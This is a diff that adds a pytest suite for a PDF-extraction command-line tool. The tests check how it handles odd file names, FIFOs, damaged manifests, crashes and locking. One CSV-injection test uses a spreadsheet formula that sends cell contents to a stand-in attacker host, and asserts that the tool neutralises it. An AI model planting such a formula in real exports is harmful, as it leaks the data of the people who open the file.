@@ -1,0 +1,316 @@
+"""No file, folder or crash stops or corrupts a run (issue 12): the real command line, each
+probe from the hostile test, asserting on what ends up in OUT_DIR."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from extractor.batch.lock import output_lock
+from extractor.batch.testing import write_fake_input
+from extractor.errors import ExitCode
+
+FAKE = "extractor.batch.testing:fake_task"
+EXTRACTOR = [sys.executable, "-m", "extractor.cli"]
+
+
+def cli(*args: object, timeout: float = 120, umask: int | None = None, **env: str):
+    """The real command, in a process of its own, with the fake task."""
+    environment = {**os.environ, "EXTRACTOR_FAKE_TASK": FAKE, **env}
+    preexec = (lambda: os.umask(umask)) if umask is not None else None
+    return subprocess.run(
+        [*EXTRACTOR, *(a if isinstance(a, bytes) else str(a) for a in args)],
+        env=environment,
+        capture_output=True,
+        text=True,
+        errors="backslashreplace",
+        timeout=timeout,
+        preexec_fn=preexec,
+    )
+
+
+def rows(out: Path) -> dict[str, tuple]:
+    with sqlite3.connect(out / "manifest.sqlite") as db:
+        query = "SELECT path, key, status, sha256, raw_path FROM files"
+        return {p: (k, s, h, r) for p, k, s, h, r in db.execute(query)}
+
+
+def table(path: Path, dialect: str = "utf8") -> list[dict[str, str]]:
+    encoding, sep = ("utf-8-sig", ";") if dialect == "excel-de" else ("utf-8", ",")
+    with path.open(encoding=encoding, newline="") as fh:
+        return list(csv.DictReader(fh, delimiter=sep))
+
+
+def alive(pid: int) -> bool:
+    """True while the process runs (a zombie no init has reaped yet counts as gone)."""
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except (OSError, IndexError):
+        return False
+    return state not in ("Z", "X")
+
+
+def wait_until(condition, limit: float = 30.0) -> bool:
+    """Poll `condition` (a bound for a hung test, not a timing assertion)."""
+    deadline = time.monotonic() + limit
+    while time.monotonic() < deadline:
+        if condition():
+            return True
+        time.sleep(0.05)
+    return condition()
+
+
+# ---- F1: a file name that is not UTF-8 ---------------------------------------------------------
+
+
+def test_file_name_not_utf8_is_processed_and_the_run_goes_on(tmp_path: Path):
+    scan, out = tmp_path / "scan", tmp_path / "out"
+    scan.mkdir()
+    raw = os.fsencode(scan) + b"/caf\xe9.pdf"
+    write_fake_input(Path(os.fsdecode(raw)))
+    write_fake_input(scan / "z-after.pdf")
+
+    result = cli("batch", scan, "-o", out, "--workers", 1)
+    assert result.returncode == ExitCode.OK, result.stderr
+    assert "Traceback" not in result.stderr
+    manifest = rows(out)
+    assert sorted(manifest) == ["caf\\xe9.pdf", "z-after.pdf"]
+    key, status, _sha, raw_path = manifest["caf\\xe9.pdf"]
+    assert (key, status, raw_path) == ("caf\ufffd.pdf", "ok", b"caf\xe9.pdf")
+    record = json.loads((out / "records" / "caf\ufffd.pdf.json").read_text("utf-8"))
+    assert record["source"]["file"] == "caf\\xe9.pdf"
+    assert (out / "text" / "caf\ufffd.pdf.txt").read_text("utf-8") == "Text von caf\\xe9.pdf"
+    assert [r["file"] for r in table(out / "agreements.csv")] == ["caf\\xe9.pdf", "z-after.pdf"]
+
+    again = cli("batch", scan, "-o", out)
+    assert again.returncode == ExitCode.OK and "skipped       2" in again.stdout
+
+
+# ---- F2: a name whose key would pass NAME_MAX --------------------------------------------------
+
+
+def test_long_file_name_keeps_every_output_name_within_name_max(tmp_path: Path):
+    scan, out = tmp_path / "scan", tmp_path / "out"
+    long_names = ["a" * 246 + ".pdf", "ä" * 123 + "x.pdf"]  # 250 bytes each
+    for name in long_names:
+        write_fake_input(scan / name)
+    write_fake_input(scan / "z.pdf")
+
+    result = cli("batch", scan, "-o", out, "--workers", 1)
+    assert result.returncode == ExitCode.OK, result.stderr
+    keys = {path: key for path, (key, *_rest) in rows(out).items()}
+    assert sorted(keys) == sorted([*long_names, "z.pdf"])
+    for name in long_names:
+        assert len(keys[name].encode()) <= 200 and keys[name] != name
+        assert (out / "records" / f"{keys[name]}.json").is_file()
+    for path in out.rglob("*"):
+        assert len(path.name.encode()) <= 255
+    assert len({keys[n] for n in long_names}) == 2
+    assert cli("batch", scan, "-o", out).stdout.count("processed     0") == 1
+
+
+# ---- F3: FIFOs and devices ---------------------------------------------------------------------
+
+
+def test_fifo_and_device_fail_alone_without_blocking(tmp_path: Path):
+    scan, out = tmp_path / "scan", tmp_path / "out"
+    write_fake_input(scan / "a.pdf")
+    os.mkfifo(scan / "pipe.pdf")
+    result = cli("batch", scan, "-o", out, "--timeout", 2, timeout=60)
+    assert result.returncode == ExitCode.FAILED, result.stderr
+    errors = {r["file"]: r["error"] for r in table(out / "errors.csv")}
+    assert errors == {
+        "pipe.pdf": "pipe.pdf: is a named pipe (FIFO), not a regular file; it is not read"
+    }
+    assert rows(out)["a.pdf"][1] == "ok"
+
+    extracted = tmp_path / "extracted"
+    result = cli(
+        "extract", "/dev/zero", scan / "a.pdf", "-o", extracted, "--timeout", 2, timeout=60
+    )
+    assert result.returncode == ExitCode.FAILED, result.stderr
+    errors = {r["file"]: r["error"] for r in table(extracted / "errors.csv")}
+    assert errors == {"zero": "zero: is a character device, not a regular file; it is not read"}
+    assert [r["status"] for r in table(extracted / "agreements.csv")] == ["ok", "failed"]
+
+
+# ---- F5: a damaged, old or unusable manifest ---------------------------------------------------
+
+
+def _two_files(tmp_path: Path) -> tuple[Path, Path]:
+    scan, out = tmp_path / "scan", tmp_path / "out"
+    write_fake_input(scan / "a.pdf")
+    write_fake_input(scan / "sub" / "b.pdf", status="needs_review")
+    return scan, out
+
+
+def test_damaged_manifest_is_moved_aside_and_rebuilt(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
+    keys_before = {p: r[0] for p, r in rows(out).items()}
+    (out / "manifest.sqlite").write_bytes(b"this is not a database, a disk error ate it" * 100)
+    (scan / "a.pdf").unlink()  # gone meanwhile: the rebuilt manifest knows it was there
+
+    result = cli("batch", scan, "-o", out)
+    assert result.returncode == ExitCode.NEEDS_REVIEW, result.stderr
+    assert "Traceback" not in result.stderr
+    assert "could not be used (file is not a database)" in result.stderr
+    assert "is rebuilt from the records on disk" in result.stderr
+    aside = [p.name for p in out.glob("manifest.sqlite.broken-*Z")]
+    assert len(aside) == 1
+    assert "disappeared   1" in result.stdout and "processed     1" in result.stdout
+    assert {p: r[0] for p, r in rows(out).items()} == {"sub/b.pdf": keys_before["sub/b.pdf"]}
+    assert [r["file"] for r in table(out / "agreements.csv")] == ["sub/b.pdf"]
+    assert not (out / "records" / "a.pdf.json").exists()
+
+
+def _old_manifest(out: Path, columns: str, version: str | None) -> None:
+    out.mkdir(parents=True, exist_ok=True)
+    with sqlite3.connect(out / "manifest.sqlite") as db:
+        db.execute(f"CREATE TABLE files ({columns})")
+        if version is not None:
+            db.execute("CREATE TABLE meta (name TEXT PRIMARY KEY, value TEXT NOT NULL)")
+            db.execute("INSERT INTO meta VALUES ('schema_version', ?)", (version,))
+
+
+V1_COLUMNS = (
+    "path TEXT PRIMARY KEY, key TEXT NOT NULL, size INTEGER NOT NULL, mtime_ns INTEGER NOT NULL,"
+    " sha256 TEXT NOT NULL, pipeline_version TEXT NOT NULL, status TEXT NOT NULL, error TEXT,"
+    " pages INTEGER NOT NULL DEFAULT 0, seconds REAL, timings TEXT, processed_at TEXT NOT NULL"
+)
+
+
+def test_manifest_of_schema_1_is_migrated_and_keeps_its_rows(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
+    columns = [c.split()[0] for c in V1_COLUMNS.split(",")]
+    with sqlite3.connect(out / "manifest.sqlite") as db:
+        saved = db.execute(f"SELECT {', '.join(columns)} FROM files").fetchall()
+    for path in out.glob("manifest.sqlite*"):
+        path.unlink()
+    _old_manifest(out, V1_COLUMNS, "1")  # the same rows, as version 1 wrote them
+    with sqlite3.connect(out / "manifest.sqlite") as db:
+        db.executemany(f"INSERT INTO files VALUES ({', '.join('?' * len(columns))})", saved)
+    result = cli("batch", scan, "-o", out)
+    assert result.returncode == ExitCode.OK, result.stderr
+    assert "processed     0" in result.stdout and "skipped       2" in result.stdout
+    with sqlite3.connect(out / "manifest.sqlite") as db:
+        assert db.execute("SELECT value FROM meta").fetchone() == ("2",)
+
+
+def test_manifest_lacking_a_column_is_moved_aside(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    _old_manifest(out, V1_COLUMNS.replace(", timings TEXT", ""), "1")
+    result = cli("batch", scan, "-o", out)
+    assert result.returncode == ExitCode.NEEDS_REVIEW, result.stderr
+    assert "lacks the column(s) timings" in result.stderr
+    assert sorted(rows(out)) == ["a.pdf", "sub/b.pdf"]
+
+
+def test_unusable_manifest_is_one_sentence_and_exit_3(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    (out / "manifest.sqlite").mkdir(parents=True)  # SQLite cannot open a folder
+    result = cli("batch", scan, "-o", out)
+    assert result.returncode == ExitCode.USAGE
+    assert result.stderr.strip().splitlines()[-1].startswith("error: the manifest ")
+    assert "Traceback" not in result.stderr
+
+    newer = tmp_path / "newer"
+    _old_manifest(newer, V1_COLUMNS + ", raw_path BLOB", "99")
+    result = cli("batch", scan, "-o", newer)
+    assert result.returncode == ExitCode.USAGE
+    assert "written by a newer version of this tool" in result.stderr
+
+
+# ---- F6: CSV formula injection -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("dialect", ["utf8", "excel-de"])
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path, dialect: str):
+    scan, out = tmp_path / "scan", tmp_path / "out"
+    formula = '=HYPERLINK("http://evil.example/?d="&A2;"x")'
+    write_fake_input(scan / "a.pdf", region=formula)
+    write_fake_input(scan / "@b.pdf", region="+49 Landkreis")
+    write_fake_input(scan / "-c.pdf", region="\tLandkreis")
+
+    result = cli("batch", scan, "-o", out, "--csv-dialect", dialect)
+    assert result.returncode == ExitCode.OK, result.stderr
+    agreements = {r["document"]: r for r in table(out / "agreements.csv", dialect)}
+    assert agreements["a.pdf"]["region_name"] == "'" + formula
+    assert agreements["'@b.pdf"]["region_name"] == "'+49 Landkreis"
+    assert agreements["'@b.pdf"]["file"] == "'@b.pdf"
+    assert agreements["'-c.pdf"]["region_name"] == "'\tLandkreis"
+    assert agreements["a.pdf"]["budget_amount"] == (
+        "12345,5" if dialect == "excel-de" else "12345.5"
+    )
+    projects = table(out / "projects.csv", dialect)
+    assert {r["region_name"] for r in projects} >= {"'" + formula}
+    # The JSON outputs keep every value as read.
+    jsonl = [json.loads(line) for line in (out / "agreements.jsonl").read_text().splitlines()]
+    assert formula in [r["parties"]["region"]["name"] for r in jsonl]
+
+
+# ---- F7: `extract` into a batch's folder -------------------------------------------------------
+
+
+def test_batch_redoes_a_file_whose_record_is_another_documents(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
+    other = write_fake_input(tmp_path / "elsewhere" / "a.pdf", region="Stadt Kassel")
+
+    refused = cli("extract", other, "-o", out)
+    assert refused.returncode == ExitCode.USAGE
+    assert "is the output folder of `extractor batch`" in refused.stderr
+    assert (
+        json.loads((out / "records" / "a.pdf.json").read_text())["parties"]["region"]["name"]
+        == "Landkreis Kassel"
+    )
+
+    # The same replacement by other means (an older version's extract, a copy by hand).
+    elsewhere = tmp_path / "elsewhere-out"
+    assert cli("extract", other, "-o", elsewhere).returncode == ExitCode.OK
+    (out / "records" / "a.pdf.json").write_bytes(
+        (elsewhere / "records" / "a.pdf.json").read_bytes()
+    )
+    result = cli("batch", scan, "-o", out)
+    assert "processed     1" in result.stdout and "skipped       1" in result.stdout
+    record = json.loads((out / "records" / "a.pdf.json").read_text())
+    assert record["parties"]["region"]["name"] == "Landkreis Kassel"
+    assert record["source"]["sha256"] == rows(out)["a.pdf"][2]
+
+
+# ---- a crash, and a second run -----------------------------------------------------------------
+
+
+def test_a_crash_has_its_own_exit_code_and_a_log(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    out.mkdir()
+    result = cli("batch", scan, "-o", out, EXTRACTOR_FAKE_TASK="extractor.batch.testing:nothing")
+    assert result.returncode == ExitCode.CRASH == 5
+    last = result.stderr.strip().splitlines()[-1]
+    assert last.startswith("error: internal error (AttributeError: ")
+    log = Path(last.rsplit("the details are in ", 1)[1])
+    assert log.parent == out and "Traceback" in log.read_text()
+    assert "Traceback" not in result.stderr
+
+
+def test_second_run_on_the_same_output_folder_is_refused(tmp_path: Path):
+    scan, out = _two_files(tmp_path)
+    out.mkdir()
+    with output_lock(out):
+        result = cli("batch", scan, "-o", out)
+        extract = cli("extract", scan, "-o", tmp_path / "out", "--workers", 1)
+    assert result.returncode == extract.returncode == ExitCode.LOCKED == 6
+    assert f"is being written by another extractor run (process {os.getpid()} on " in (
+        result.stderr
+    )
+    assert not (out / "records").exists()
+    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW  # lock released
